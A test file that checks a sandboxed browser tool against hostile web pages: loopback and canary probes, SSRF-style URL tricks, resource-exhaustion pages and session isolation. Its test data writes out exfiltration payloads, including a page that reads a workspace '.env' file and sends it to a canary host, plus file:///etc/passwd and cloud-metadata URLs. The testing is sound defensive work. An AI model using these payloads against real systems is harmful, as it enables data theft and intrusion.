import { createSocket, type Socket } from 'node:dgram';
import { existsSync } from 'node:fs';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { refusal } from '../testing.ts';
import { browserPlaces } from './find-browser.ts';
import { BrowserBench, Site, textOf } from './testing.ts';

const HAS_BROWSER = browserPlaces(process.platform, process.env).some(({ path }) => existsSync(path));

/** Ends a page's attempts: the test waits for this element, by when they have had their time. */
const DONE =
  '<script>setTimeout(() => document.body.append(Object.assign(document.createElement("p"), { id: "done", textContent: "done" })), 300)</script>';

/** What a page may try to reach a place that it must not. `C` is that place, `U` a UDP port of it. */
const WAYS: readonly (readonly [name: string, page: string])[] = [
  ['an image', '<img src="C/x">'],
  [
    'a style sheet and a font',
    '<link rel=stylesheet href="C/x"><style>@font-face{font-family:f;src:url(C/f)}p{font-family:f}</style><p>x',
  ],
  ['a script', '<script src="C/x"></script>'],
  ['fetch', '<script>fetch("C/x", { mode: "no-cors" })</script>'],
  ['a POST by fetch', '<script>fetch("C/x", { method: "POST", mode: "no-cors", body: "secret" })</script>'],
  ['XMLHttpRequest', '<script>const x = new XMLHttpRequest(); x.open("GET", "C/x"); x.send()</script>'],
  ['sendBeacon', '<script>navigator.sendBeacon("C/x", "secret")</script>'],
  ['a web socket', '<script>new WebSocket("C/x".replace("http", "ws"))</script>'],
  ['an event stream', '<script>new EventSource("C/x")</script>'],
  ['a frame', '<iframe src="C/x"></iframe>'],
  ['a frame within a frame', '<iframe srcdoc="<iframe src=C/x></iframe>"></iframe>'],
  ['a frame that is redirected there', '<iframe src="/redirect"></iframe>'],
  ['an object and an embed', '<object data="C/x"></object><embed src="C/y">'],
  ['a redirected image', '<img src="/redirect">'],
  ['a redirected fetch', '<script>fetch("/redirect", { mode: "no-cors" })</script>'],
  [
    'a worker',
    "<script>new Worker(URL.createObjectURL(new Blob([\"fetch('C/x', { mode: 'no-cors' })\"])))</script>",
  ],
  [
    'a shared worker',
    "<script>new SharedWorker(URL.createObjectURL(new Blob([\"fetch('C/x', { mode: 'no-cors' })\"])))</script>",
  ],
  [
    'a web socket of a worker',
    "<script>new Worker(URL.createObjectURL(new Blob([\"new WebSocket('C/x'.replace('http', 'ws'))\"])))</script>",
  ],
  ['a service worker', '<script>navigator.serviceWorker.register("/sw.js").catch(() => {})</script>'],
  [
    'a service worker behind the blocked name',
    '<script>ServiceWorkerContainer.prototype.register.call(navigator.serviceWorker, "/sw.js").catch(() => {})</script>',
  ],
  ['window.open', '<script>window.open("C/x")</script>'],
  ['a link to a new window', '<a id=a target=_blank href="C/x">x</a><script>a.click()</script>'],
  [
    'a form to a new window',
    '<form id=f target=_blank method=post action="C/x"></form><script>f.submit()</script>',
  ],
  [
    'a form into a frame',
    '<iframe name=w></iframe><form id=f target=w method=post action="C/x"></form><script>f.submit()</script>',
  ],
  ['a ping', '<a id=a ping="C/x" href="#">x</a><script>a.click()</script>'],
  [
    'preload, prefetch and preconnect',
    '<link rel=preload as=image href="C/x"><link rel=prefetch href="C/y"><link rel=preconnect href="C"><link rel=dns-prefetch href="C"><link rel=modulepreload href="C/z">',
  ],
  [
    'speculation rules',
    '<script type=speculationrules>{"prerender":[{"urls":["C/x"]}],"prefetch":[{"urls":["C/y"]}]}</script>',
  ],
  ['a favicon', '<link rel=icon href="C/x">'],
  ['a manifest', '<link rel=manifest href="C/x">'],
  [
    'a video and its poster',
    '<video autoplay src="C/x" poster="C/y"></video><audio autoplay src="C/z"></audio>',
  ],
  [
    'a style imported from there',
    '<style>@import "C/x"; body { background: url("C/y"); cursor: url("C/z"), auto }</style>',
  ],
  [
    'a report of a broken policy',
    '<meta http-equiv=Content-Security-Policy content="img-src \'none\'; report-uri C/x"><img src=/i>',
  ],
  [
    'WebRTC',
    '<script>const p = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:U" }, { urls: "turn:127.0.0.1:U", username: "a", credential: "b" }, { urls: "turn:127.0.0.1:P?transport=tcp", username: "a", credential: "b" }] }); p.createDataChannel("x"); p.createOffer().then((o) => p.setLocalDescription(o))</script>',
  ],
  [
    'WebTransport',
    '<script>try { new WebTransport("https://127.0.0.1:U/x").ready.catch(() => {}) } catch {}</script>',
  ],
  [
    'another spelling of this machine',
    '<img src="http://0x7f000001:P/x"><img src="http://2130706433:P/x"><img src="http://[::ffff:127.0.0.1]:P/x"><img src="http://localhost:P/x"><img src="http://a.localhost:P/x"><img src="http://0:P/x">',
  ],
  ['a file', '<img src="file:///etc/hostname"><iframe src="file:///etc/passwd"></iframe>'],
];

/** Of those, one of each kind: what is not allowed is the same place as above. */
const PARTS = [
  'an image',
  'a POST by fetch',
  'a web socket',
  'a frame',
  'a redirected fetch',
  'a worker',
  'a form into a frame',
];

/** What takes the page itself away. */
const LEADING: readonly (readonly [name: string, page: string])[] = [
  ['a download', '<a id=a download href="C/x">x</a><script>a.click()</script>'],
  ['meta refresh', '<meta http-equiv=refresh content="0;url=C/x">'],
  ['location', '<script>location = "C/x"</script>'],
  ['a form', '<form id=f method=post action="C/x"></form><script>f.submit()</script>'],
  ['a frame that moves its top', '<iframe srcdoc="<script>top.location=\'C/x\'</script>"></iframe>'],
  ['a redirect of where it goes', '<script>location = "/redirect"</script>'],
];

const fill = (text: string, target: Site) =>
  text
    .replaceAll('C/', `${target.url('')}/`)
    .replaceAll('"C"', `"${target.url('')}"`)
    .replaceAll(':P', `:${target.port}`);

/** One page's own places: what it reaches, no other has reached. */
class Trap {
  readonly canary: Site;
  readonly site: Site;
  readonly #udp: Socket;
  #datagrams = 0;

  private constructor(canary: Site, site: Site, udp: Socket) {
    this.canary = canary;
    this.site = site;
    this.#udp = udp;
    udp.on('message', () => this.#datagrams++);
  }

  static async set(way: string): Promise<Trap> {
    const udp = createSocket('udp4');
    await new Promise<void>((resolve) => udp.bind(0, '127.0.0.1', resolve));
    const canary = await Site.start({ '/x': 'reached' });
    const site = await Site.start({
      '/': `<body>${fill(way, canary).replaceAll(':U', `:${udp.address().port}`)}${DONE}`,
      '/redirect': (_req, res) => void res.writeHead(302, { location: canary.url('/x') }).end(),
      '/sw.js': (_req, res) =>
        void res
          .writeHead(200, { 'content-type': 'text/javascript' })
          .end(`fetch('${canary.url('/x')}', { mode: 'no-cors' })`),
    });
    return new Trap(canary, site, udp);
  }

  get reached(): readonly unknown[] {
    return [this.canary.hits, this.#datagrams];
  }

  async close(): Promise<void> {
    await Promise.all([this.canary.close(), this.site.close()]);
    this.#udp.close();
  }
}

describe.skipIf(!HAS_BROWSER)('hostile pages', () => {
  let bench: BrowserBench;
  /** On loopback, which nobody opened. */
  let canary: Site;
  let site: Site;
  let page = '';

  beforeAll(async () => {
    canary = await Site.start({ '/x': 'reached' });
    site = await Site.start({
      '/': (_req, res) => void res.writeHead(200, { 'content-type': 'text/html' }).end(page),
      '/redirect': (_req, res) => void res.writeHead(302, { location: canary.url('/x') }).end(),
      '/leave': (_req, res) => void res.writeHead(307, { location: canary.url('/x') }).end(),
      '/sw.js': (_req, res) =>
        void res
          .writeHead(200, { 'content-type': 'text/javascript' })
          .end(`fetch('${canary.url('/x')}', { mode: 'no-cors' })`),
      '/hang': () => {},
      '/half': (_req, res) =>
        void res.writeHead(200, { 'content-type': 'text/html' }).write('<h1>half</h1><img src=/hang>'),
      '/file.bin': (_req, res) =>
        void res.writeHead(200, { 'content-disposition': 'attachment; filename=a.bin' }).end('x'),
    });
    bench = await BrowserBench.create({ 'index.html': '' });
    bench.bench.set({ browser: { loadSeconds: 6 } });
    bench.allow(site);
  });
  beforeEach(() => {
    canary.hits.length = 0;
    bench.bench.decision = () => 'ask';
  });
  afterAll(async () => {
    await bench?.close();
    await Promise.all([site?.close(), canary?.close()]);
  });

  /** What a page has reached by the time that it is done. */
  async function reachedBy(way: string, alsoOpen: boolean): Promise<readonly unknown[]> {
    const trap = await Trap.set(way);
    try {
      bench.allow(trap.site, ...(alsoOpen ? [trap.canary] : []));
      await bench.call('page_snapshot', { url: trap.site.url(), wait: '#done' });
      return trap.reached;
    } finally {
      await trap.close();
    }
  }

  describe('reach nothing on this machine that nobody opened [WEB-1]', () => {
    // They mostly wait, and each has places of its own.
    test.concurrent.each(WAYS)('by %s', async (_name, way) => {
      expect(await reachedBy(way, false)).toEqual([[], 0]);
    });

    test.each(LEADING)('by going there: %s', async (_name, way) => {
      // First: a page that leaves is not read to its end.
      page = `<body>${DONE}${fill(way, canary)}`;
      const text = await bench.text('page_snapshot', { url: site.url(), wait: '#done' });
      expect(canary.hits).toEqual([]);
      // It stays where it is, and the answer says where it wanted to go.
      expect(text).toContain('done');
      expect(text).toContain(`127.0.0.1:${canary.port}`);
    });

    test('by being redirected there at once: the refusal says so', async () => {
      const { code, message } = await refusal(bench.call('screenshot', { url: site.url('/leave') }));
      expect([code, canary.hits]).toEqual(['url_refused', []]);
      expect(message).toContain(`127.0.0.1:${canary.port}`);
    });
  });

  describe('of one site, on what a person opened for another [WEB-2]', () => {
    beforeAll(() => bench.allow(canary));
    afterAll(() => void bench.allowed.pop());

    test.concurrent.each(WAYS.filter(([name]) => PARTS.includes(name)))('by %s', async (_name, way) => {
      expect(await reachedBy(way, true)).toEqual([[], 0]);
    });

    test.each(WAYS.filter(([name]) => PARTS.includes(name)))(
      'which they do reach where a rule allows it, so that these tests can fail: by %s',
      async (_name, way) => {
        bench.bench.decision = () => 'allow';
        expect((await reachedBy(way, true))[0]).not.toEqual([]);
      },
    );

    test('redirected there, the call ends and names the place', async () => {
      const { code, message } = await refusal(bench.call('screenshot', { url: site.url('/leave') }));
      expect([code, canary.hits]).toEqual(['url_refused', []]);
      expect(message).toContain('was not asked for');
    });

    test('redirected there, it arrives where a rule allows it', async () => {
      bench.bench.decision = () => 'allow';
      expect(await bench.text('page_snapshot', { url: site.url('/leave') })).toContain('reached');
    });

    test('what a rule denies is not reached, though a person said yes to the page', async () => {
      page = fill('<img src="/denied"><img src="C/x">', canary);
      bench.bench.decision = (effect) =>
        effect.kind === 'net' && effect.port === canary.port ? 'deny' : 'allow';
      const text = await bench.text('screenshot', { url: site.url() });
      expect(canary.hits).toEqual([]);
      expect(text).toContain('A rule denies');
    });

    test('a workspace page carries nothing out', async () => {
      await bench.bench.put('.env', 'KEY=1');
      const send = fill(
        `<script>fetch("/ws/.env").then((r) => r.text()).then((t) => fetch("C/x?" + t, { mode: "no-cors" }))</script>${DONE}`,
        canary,
      );
      await bench.bench.put('leak.html', `<body>${send}`);
      const text = await bench.text('screenshot', { path: 'leak.html', wait: '#done' });
      expect(canary.hits).toEqual([]);
      expect(text).toContain('reaches');
    });

    test('a workspace page reads no file that rules hide, and none outside', async () => {
      await bench.bench.put('hidden.txt', 'hidden words');
      bench.bench.hidden.add('ws:hidden.txt');
      await bench.bench.put(
        'read.html',
        `<body><iframe src=hidden.txt></iframe><iframe src="../home/fastband.db"></iframe><iframe src="/ws/..%2fhome%2fsettings.json"></iframe><iframe src="/other/x"></iframe>${DONE}`,
      );
      const text = await bench.text('page_snapshot', { path: 'read.html', wait: '#done' });
      expect(text).not.toContain('hidden words');
      const { output } = await bench.call('query_page', {
        path: 'read.html',
        selector: 'iframe',
        wait: '#done',
      });
      expect(output.matches).toBe(4);
      bench.bench.hidden.clear();
    });

    test('a page of the web sees no workspace file', async () => {
      await bench.bench.put('private.js', 'document.body.append("private words")');
      page = `<body><script src="http://workspace.fastband.invalid/ws/private.js"></script><iframe src="http://workspace.fastband.invalid/ws/private.js"></iframe>${DONE}`;
      expect(await bench.text('page_snapshot', { url: site.url(), wait: '#done' })).not.toContain(
        'private words',
      );
    });
  });

  describe('cannot hold up a call [WEB-3]', () => {
    test('with alert after alert', async () => {
      page = `<body><script>for (let i = 0; i < 20; i++) alert(i); confirm("?"); prompt("?")</script>${DONE}`;
      expect((await bench.call('screenshot', { url: site.url(), wait: '#done' })).output.status).toBe(200);
    });

    test('with a dialog before it is left', async () => {
      page = '<body onbeforeunload="event.preventDefault(); return 1"><button>x</button>';
      const { output } = await bench.call('use_page', {
        url: site.url(),
        steps: [
          { do: 'click', on: 'button' },
          { do: 'goto', value: site.url('/none') },
        ],
      });
      expect(output).toMatchObject({ done: 2, url: site.url('/none') });
    });

    test('with a part that never loads: it is shown as it is', async () => {
      const result = await bench.call('screenshot', { url: site.url('/half') });
      expect(textOf(result)).toContain('still loading');
    }, 40_000);

    test('with an answer that never comes', async () => {
      expect((await refusal(bench.call('screenshot', { url: site.url('/hang') }))).code).toBe('timeout');
    }, 40_000);

    test('with a script that never ends', async () => {
      page = '<body><script>for (;;) {}</script>';
      expect((await refusal(bench.call('page_snapshot', { url: site.url() }))).code).toBe('timeout');
      page = 'fine';
      expect(await bench.text('page_snapshot', { url: site.url() })).toContain('fine');
    }, 60_000);

    test('by growing for ever: the picture is capped', async () => {
      page =
        '<body style="margin:0"><div style="height:400000px;width:90000px;background:linear-gradient(red,blue)"></div>';
      const result = await bench.call('screenshot', { url: site.url(), fullPage: true });
      expect(Number(result.output.height)).toBeLessThanOrEqual(16_000);
      expect(Number(result.output.width) * Number(result.output.height)).toBeLessThanOrEqual(40_000_000);
      expect(textOf(result)).toContain('only its first');
    }, 60_000);

    test('when the call is cancelled, at once', async () => {
      page = '<body><script>for (;;) {}</script>';
      const plan = await bench.plan('screenshot', { url: site.url() });
      const controller = new AbortController();
      const running = bench
        .tool('screenshot')
        .run(plan, { ...bench.runContext(), signal: controller.signal });
      setTimeout(() => controller.abort(new Error('stop')), 300);
      const began = performance.now();
      await expect(running).rejects.toThrow('stop');
      expect(performance.now() - began).toBeLessThan(2000);
    });
  });

  describe('get nothing from the machine [WEB-4]', () => {
    test('neither permissions nor devices', async () => {
      page = `<body><script>
        const say = (text) => document.body.append(Object.assign(document.createElement('p'), { textContent: text }));
        for (const name of ['geolocation', 'notifications', 'camera', 'microphone', 'clipboard-read'])
          navigator.permissions.query({ name }).then((one) => say(name + ' ' + one.state), () => say(name + ' refused'));
        navigator.geolocation.getCurrentPosition(() => say('a place'), () => say('no place'));
        navigator.mediaDevices?.getUserMedia({ video: true, audio: true }).then(() => say('a camera'), () => say('no camera'));
      </script>${DONE}`;
      const text = await bench.text('page_snapshot', { url: site.url(), wait: '#done' });
      expect(text).not.toMatch(/granted|a place|a camera/);
      expect(text).toMatch(/geolocation (prompt|denied)/);
    });

    test('no download', async () => {
      const { code, message } = await refusal(bench.call('screenshot', { url: site.url('/file.bin') }));
      expect([code, message]).toEqual(['fetch_failed', expect.stringContaining('Nothing was downloaded')]);
    });

    test('no other window', async () => {
      page = `<body><script>for (let i = 0; i < 5; i++) window.open("/other" + i)</script>${DONE}`;
      const hits = site.hits.length;
      const text = await bench.text('page_console', { url: site.url(), wait: '#done' });
      expect(site.hits.slice(hits).filter((one) => one.includes('/other'))).toEqual([]);
      expect(text).toContain('No other windows');
    });

    test('no service worker', async () => {
      page = `<body><script>navigator.serviceWorker.register('/sw.js').then((one) => document.body.append(one ? 'registered' : 'nothing'), () => document.body.append('refused'))</script>${DONE}`;
      expect(await bench.text('page_snapshot', { url: site.url(), wait: '#done' })).not.toContain(
        'registered',
      );
    });
  });

  describe('many at once [WEB-7]', () => {
    /** Says who asked for it, and what a page before it left behind. */
    const VISITED = `<body><p>for </p><script>
      document.querySelector('p').append(location.search, '; cookie ', document.cookie, '; kept ', String(localStorage.kept));
      document.cookie = 'seen=1';
      localStorage.kept = 'something';
    </script>${DONE}`;

    test('each call has a page of its own, also of one client', async () => {
      page = VISITED;
      // A page is made ready after a call: whoever comes first gets it, and nobody else.
      await bench.text('page_snapshot', { url: site.url('/?first'), wait: '#done' });
      await bench.browsers.settled();
      for (let round = 0; round < 2; round++) {
        const asked = Array.from({ length: 6 }, (_, i) => ({ client: `k${i % 3}`, mark: `r${round}n${i}` }));
        const texts = await Promise.all(
          asked.map(({ client, mark }) =>
            bench.text('page_snapshot', { url: site.url(`/?${mark}`), wait: '#done' }, client),
          ),
        );
        expect(texts.map((text) => /for (.*?; kept \w+)/.exec(text)?.[1])).toEqual(
          asked.map(({ mark }) => `?${mark}; cookie ; kept undefined`),
        );
      }
    });

    test('a session goes on where it was, and is its own client’s', async () => {
      page = VISITED;
      const visit = (client: string, mark: string) =>
        bench.text(
          'use_page',
          {
            url: site.url(`/?${mark}`),
            session: 'same-name',
            steps: [{ do: 'wait', on: '#done' }],
          },
          client,
        );
      await Promise.all(['k1', 'k2', 'k3'].map((client) => visit(client, `${client}a`)));
      for (const client of ['k1', 'k2', 'k3']) {
        const read = await bench.call('query_page', { session: 'same-name', selector: 'p >> nth=0' }, client);
        expect(JSON.stringify(read.output)).toContain(`?${client}a; cookie ; kept undefined`);
      }
      await Promise.all(['k1', 'k2', 'k3'].map((client) => visit(client, `${client}b`)));
      const read = await bench.call('query_page', { session: 'same-name', selector: 'p >> nth=0' }, 'k2');
      expect(JSON.stringify(read.output)).toContain('?k2b; cookie seen=1; kept something');
    });
  });

  test.each([
    ['a file', 'file:///etc/passwd'],
    ['a script', 'javascript:alert(1)'],
    ['a page in itself', 'data:text/html,x'],
    ['the browser’s own pages', 'chrome://settings'],
    ['source text', 'view-source:http://example.com'],
    ['a password', 'http://a:b@example.com/'],
    ['another spelling of this machine', 'http://0x7f000001/'],
    ['cloud metadata', 'http://169.254.169.254/latest/'],
    ['the workspaces’ own origin', 'http://workspace.fastband.invalid/ws/.env'],
  ])('is not asked for at all: %s', async (_name, url) => {
    const gone = await refusal(bench.call('screenshot', { url }));
    expect(gone.code).toBe('url_refused');
    const later = await refusal(
      bench.call('use_page', { url: site.url('/none'), steps: [{ do: 'goto', value: url }] }),
    );
    expect(later.code).toBe('url_refused');
  });

  test('a crash is said, and the next call works [WEB-5]', async () => {
    page = '<p>well';
    await bench.call('use_page', { url: site.url(), session: 'crash', steps: [{ do: 'hover', on: 'p' }] });
    const browser = await bench.browsers.browser();
    browser.kill();
    const after = await bench
      .text('page_snapshot', { url: site.url() })
      .catch((error: { code: string }) => error.code);
    expect(after === 'browser_unavailable' || String(after).includes('well')).toBe(true);
    expect(await bench.text('page_snapshot', { url: site.url() })).toContain('well');
  });
});
